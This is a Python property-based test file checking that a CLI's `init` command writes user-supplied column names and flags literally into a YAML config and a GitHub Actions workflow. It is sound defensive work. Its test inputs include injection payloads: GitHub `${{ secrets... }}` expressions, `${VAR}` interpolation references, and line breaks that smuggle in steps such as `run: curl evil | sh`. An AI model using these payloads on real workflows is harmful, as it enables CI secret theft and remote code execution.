"""`ground-gate init` writes what it is given literally (issue 43, item 8): any column name read
from the data and any flag's value (`${X}`, `${{`, `$${`, quotes, `#`, line breaks, YAML's
indicators and words, unicode...) reads back from the config as exactly that value, through
YAML and the config's `${...}` interpolation, so `validate` prints no variable's value; and the
workflow parses with exactly the steps init means, each value GitHub reads being the one given
(no `${{` expression of the user's evaluated) and no line added. A value the written files
cannot hold is refused with exit 2 and nothing written."""

from __future__ import annotations

import contextlib
import json
import re
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result
from hypothesis import event, example, given, settings
from hypothesis import strategies as st

from ground_gate.cli import cli
from ground_gate.config.loader import load_config
from ground_gate.stages.starter.text import config_value, workflow_value
from tests.examples import examples

CANARY = "canary-value-of-a-variable"
# Text a hostile column or flag would hold: interpolation, GitHub expressions, YAML's
# indicators and words, quotes, comments, line breaks of every kind, spaces at either end.
PIECES = ["${X}", "${APP_AUTH}", "${{", "}}", "$${", "$$", "$", "{", "}", "[", "]", "'", '"',
          "\\", ":", ": ", " #", "#", "- ", "&a", "*a", "!tag", "%", "@", "`", "|", ">", ",",
          "?", "\n", "\r\n", "\r", "\u2028", "\x85", "\t", " ", "null", "yes", "No", "~",
          "0x1F", "1e3", "-1", "2024-01-01", "é", "\U0001f600", "\u200b", "\ufeff", "${A:-b}",
          "${{ secrets.K }}", "steps:", "      - run: echo pwned"]  # fmt: skip
HOSTILE = st.lists(
    st.one_of(st.sampled_from(PIECES), st.text(min_size=1, max_size=4)), min_size=1, max_size=6
).map("".join)
_SECRET_REF = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)")


def invoke(folder: Path, *args: str) -> Result:
    with contextlib.chdir(folder):
        result = CliRunner().invoke(cli, ["init", *args], env=_env_for(args))
    assert "Traceback" not in result.output, result.output
    return result


def _env_for(values: tuple[str, ...] | list[str]) -> dict[str, str]:
    """Every variable a value names set to CANARY: read, its value would show."""
    names = {"APP_AUTH", "X", "A", "K", *(n for v in values for n in _SECRET_REF.findall(v))}
    return dict.fromkeys(names, CANARY)


@contextlib.contextmanager
def folder(tmp_path: Path) -> Iterator[Path]:
    with tempfile.TemporaryDirectory(dir=tmp_path) as name:
        yield Path(name)


def write_rows(path: Path, columns: dict[str, str]) -> None:
    rows = [
        {columns["id"]: f"r{i}", columns["question"]: "How heavy is it?",
         columns["context"]: "It weighs 1.2 kg.", columns["response"]: "1.2 kg."}
        for i in (1, 2)
    ]  # fmt: skip
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")


def refused(result: Result, where: Path) -> None:
    """Exit 2, one line naming the problem, nothing written."""
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith("ground-gate: error: ")
    assert result.stderr.count("\n") == 1
    assert not (where / "ground-gate.yml").exists()
    assert not (where / ".github").exists()


# --- GitHub's expressions, read as GitHub reads them ------------------------------------------


def github_value(text: str, secrets: set[str]) -> str:
    """`text` as GitHub reads a workflow's value: `${{ expr }}` anywhere in it evaluated (a
    quote opens and closes a string literal inside, `''` being a quote); AssertionError for
    an expression init does not write (only string literals and its own constants)."""
    out, at = [], 0
    while (start := text.find("${{", at)) >= 0:
        out.append(text[at:start])
        end, quoted = start + 3, False
        while end < len(text) and (quoted or not text.startswith("}}", end)):
            quoted ^= text[end] == "'"
            end += 1
        assert end < len(text), f"an expression never closed: {text!r}"
        out.append(_evaluate(text[start + 3 : end].strip(), secrets))
        at = end + 2
    return "".join(out) + text[at:]


def _evaluate(expression: str, secrets: set[str]) -> str:
    literal = re.fullmatch(r"'((?:[^']|'')*)'", expression)
    if literal:
        return literal.group(1).replace("''", "'")
    known = {"github.workflow", "github.event.pull_request.number", "!cancelled()"}
    known |= {f"secrets.{name}" for name in secrets}
    assert expression in known, f"an expression init did not mean: {expression!r}"
    return f"<{expression}>"


def read_workflow(path: Path, secrets: set[str]) -> tuple[list[dict[str, Any]], Any]:
    """The gate job's steps, and the whole workflow with every value as GitHub reads it."""

    def read(node: Any) -> Any:
        if isinstance(node, dict):
            return {key: read(value) for key, value in node.items()}
        if isinstance(node, list):
            return [read(value) for value in node]
        return github_value(node, secrets) if isinstance(node, str) else node

    workflow = read(yaml.safe_load(path.read_text(encoding="utf-8")))
    return workflow["jobs"]["gate"]["steps"], workflow


def step_shape(steps: list[dict[str, Any]]) -> list[tuple[str, ...]]:
    return [tuple(sorted(step)) + tuple(sorted(step.get("with", {}))) for step in steps]


# --- the properties ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One folder for a test's examples, each in a folder of its own (`folder`)."""
    return tmp_path_factory.mktemp("init")


ROLES = ("id", "question", "context", "response")
PLAIN = {"id": "id", "question": "question", "context": "context", "response": "answer"}


_REFERENCES: dict[tuple[str, ...], tuple[int, int, list[tuple[str, ...]]]] = {}


def _reference(base: Path, *args: str) -> tuple[int, int, list[tuple[str, ...]]]:
    """Lines of the config and of the workflow, and the workflow's steps, for plain values
    (`-c c.yml` among `args` when given; once per test)."""
    if args not in _REFERENCES:
        with folder(base) as here:
            write_rows(here / "rows.jsonl", PLAIN)
            assert invoke(here, "--data", "rows.jsonl", *args).exit_code == 0
            config = here / ("c.yml" if "c.yml" in args else "ground-gate.yml")
            workflow = here / ".github" / "workflows" / "ground-gate.yml"
            if not workflow.exists():  # --no-workflow
                _REFERENCES[args] = (len(config.read_text(encoding="utf-8").splitlines()), 0, [])
                return _REFERENCES[args]
            steps, _ = read_workflow(workflow, {"OPENAI_API_KEY"})
            _REFERENCES[args] = (
                len(config.read_text(encoding="utf-8").splitlines()),
                len(workflow.read_text(encoding="utf-8").splitlines()),
                step_shape(steps),
            )
    return _REFERENCES[args]


@settings(max_examples=examples(60))
@given(columns=st.lists(HOSTILE, min_size=4, max_size=4, unique=True), name=HOSTILE,
       model=HOSTILE)  # fmt: skip
@example(columns=["${APP_AUTH}", "${{", "$${X}", "a\n      - run: echo pwned"],
         name="${{ secrets.K }}", model="m\nsteps:")  # fmt: skip
def test_init__columns_and_values_read_back_exactly(base, columns, name, model):
    given_columns = dict(zip(ROLES, columns, strict=True))
    flags = [f"--{role}-column={column}" for role, column in given_columns.items()]
    args = [*flags, f"--name={name}", f"--model={model}", "--judge=openai"]
    lines, workflow_lines, shape = _reference(base, "--name=n", "--model=m", "--judge=openai")
    with folder(base) as here:
        write_rows(here / "rows.jsonl", given_columns)
        result = invoke(here, "--data", "rows.jsonl", *args)
        event(f"exit {result.exit_code}")
        if result.exit_code != 0:  # only what the config cannot hold
            refused(result, here)
            assert "which the config cannot hold" in result.stderr or "100 char" in result.stderr
            return
        env = _env_for([*columns, name, model])
        config_file = here / "ground-gate.yml"
        config = load_config(config_file, env)
        [dataset] = config.datasets
        assert dataset.fields == given_columns
        assert (dataset.name, config.judge.model) == (name, model)
        assert len(config_file.read_text(encoding="utf-8").splitlines()) == lines
        with contextlib.chdir(here):
            validated = CliRunner().invoke(cli, ["validate", "-c", "ground-gate.yml"], env=env)
        assert validated.exit_code == 0, validated.output
        assert CANARY not in validated.output
        workflow = here / ".github" / "workflows" / "ground-gate.yml"
        steps, _ = read_workflow(workflow, {"OPENAI_API_KEY"})
        assert step_shape(steps) == shape
        assert len(workflow.read_text(encoding="utf-8").splitlines()) == workflow_lines


@settings(max_examples=examples(40))
@given(model=HOSTILE, config_name=HOSTILE.filter(lambda t: "/" not in t and "\0" not in t))
@example(model="${{ github.token }}", config_name="${{ secrets.GITHUB_TOKEN }}.yml")
def test_init__the_workflow_reads_the_config_path_and_model_literally(base, model, config_name):
    config_name = config_name if config_name not in (".", "..") else "c"
    _, workflow_lines, shape = _reference(base, "--model=m", "-c", "c.yml")
    with folder(base) as here:
        write_rows(here / "rows.jsonl", PLAIN)
        result = invoke(here, "--data", "rows.jsonl", f"--model={model}", "-c", config_name)
        event(f"exit {result.exit_code}")
        if result.exit_code != 0:
            assert result.exit_code == 2, result.output
            assert not (here / ".github").exists()
            return
        workflow = here / ".github" / "workflows" / "ground-gate.yml"
        steps, _ = read_workflow(workflow, set())
        assert step_shape(steps) == shape
        [cache] = [s for s in steps if s["uses"].startswith("actions/cache@")]
        assert cache["with"]["key"] == f"ground-gate-model-{model}"
        [gate] = [s for s in steps if s.get("name") == "ground-gate"]
        assert gate["with"]["config"] == config_name
        assert len(workflow.read_text(encoding="utf-8").splitlines()) == workflow_lines
        config = load_config(here / config_name, _env_for([model, config_name]))
        assert config.judge.model == model
        assert config.datasets[0].path == (here / "rows.jsonl").resolve()


@settings(max_examples=examples(60))
@given(
    action=st.one_of(
        HOSTILE,
        HOSTILE.map(lambda t: f"OWNER/ground-gate@{t}"),
        st.from_regex(
            r"[A-Za-z0-9][A-Za-z0-9-]{0,8}/[\w.-]{1,8}(/[\w.-]{1,5})?@[\w./-]{1,12}", fullmatch=True
        ),
        st.from_regex(r"(\./[\w./-]{0,12}|docker://[\w./-]{1,12}(:[\w.-]{1,5})?)", fullmatch=True),
    )
)
@example(action="OWNER/ground-gate@v1\n      - run: curl evil | sh")
@example(action="${{ github.token }}/x@v1")
@example(action="docker://ghcr.io/owner/image:1.0@sha256:abc")
def test_init__action_is_a_uses_value_or_refused(base, action):
    _, workflow_lines, shape = _reference(base)
    with folder(base) as here:
        write_rows(here / "rows.jsonl", PLAIN)
        result = invoke(here, "--data", "rows.jsonl", f"--action={action}")
        event(f"exit {result.exit_code}")
        if result.exit_code != 0:
            refused(result, here)
            assert result.stderr.startswith("ground-gate: error: --action: expected what ")
            return
        assert not any(ch.isspace() or ch in "'\"${}#" for ch in action)
        workflow = here / ".github" / "workflows" / "ground-gate.yml"
        steps, _ = read_workflow(workflow, set())
        assert step_shape(steps) == shape
        assert next(s for s in steps if s.get("name") == "ground-gate")["uses"] == action
        assert len(workflow.read_text(encoding="utf-8").splitlines()) == workflow_lines


@given(text=HOSTILE)
@example(text="${{ '${{' }}")
@example(text="a${{b}}c${{")
def test_values__read_back_through_yaml_interpolation_and_github(text):
    from ground_gate.config.interpolate import interpolate

    assert interpolate(yaml.safe_load(f"k: {config_value(text)}")["k"], {"X": CANARY}) == text
    assert github_value(yaml.safe_load(f"k: {workflow_value(text)}")["k"], set()) == text
    for written in (config_value(text), workflow_value(text)):
        assert len(f"k: {written}".splitlines()) == 1  # no value ends its line


@pytest.mark.parametrize("flag", ["--name=a\0b", "--model=\udc80", "--model=", "--name=\ud800"])
def test_init__a_value_the_config_cannot_hold_is_refused(tmp_path, flag):
    with folder(tmp_path) as here:
        write_rows(here / "rows.jsonl", PLAIN)
        refused(invoke(here, "--data", "rows.jsonl", "--judge=openai", "--model=m", flag), here)


@settings(max_examples=examples(40))
@given(path=HOSTILE)
@example(path="v1/${APP_AUTH}")
@example(path="${{ secrets.K }}/v1\n")
def test_init__base_url_reads_back_exactly_or_is_refused(base, path):
    url = f"http://127.0.0.1:8080/{path}"
    with folder(base) as here:
        write_rows(here / "rows.jsonl", PLAIN)
        result = invoke(here, "--data", "rows.jsonl", f"--base-url={url}", "--model=m",
                        "--no-api-key", "--no-workflow")  # fmt: skip
        event(f"exit {result.exit_code}")
        if result.exit_code != 0:
            refused(result, here)
            assert result.stderr.startswith("ground-gate: error: --base-url: ")
            return
        env = _env_for([url])
        assert load_config(here / "ground-gate.yml", env).judge.base_url == url
        with contextlib.chdir(here):
            validated = CliRunner().invoke(cli, ["validate", "-c", "ground-gate.yml"], env=env)
        assert validated.exit_code == 0, validated.output
        assert CANARY not in validated.output


@settings(max_examples=examples(30))
@given(name=HOSTILE.filter(lambda t: "/" not in t and "\0" not in t and t not in (".", "..")))
@example(name="${APP_AUTH}.jsonl")
@example(name="rows\n# comment\nversion: 2.jsonl")
def test_init__the_data_files_name_reads_back_exactly(base, name):
    name = name if name.endswith(".jsonl") else f"{name}.jsonl"  # the format is its extension
    lines, _, _ = _reference(base, "--no-workflow")
    with folder(base) as here:
        try:
            write_rows(here / name, PLAIN)
        except (OSError, ValueError):  # a name this file system cannot hold
            return
        result = invoke(here, "--data", name, "--name=rows", "--no-workflow")
        event(f"exit {result.exit_code}")
        if result.exit_code != 0:
            refused(result, here)
            return
        config = here / "ground-gate.yml"
        assert load_config(config, _env_for([name])).datasets[0].path == (here / name).resolve()
        assert len(config.read_text(encoding="utf-8").splitlines()) == lines
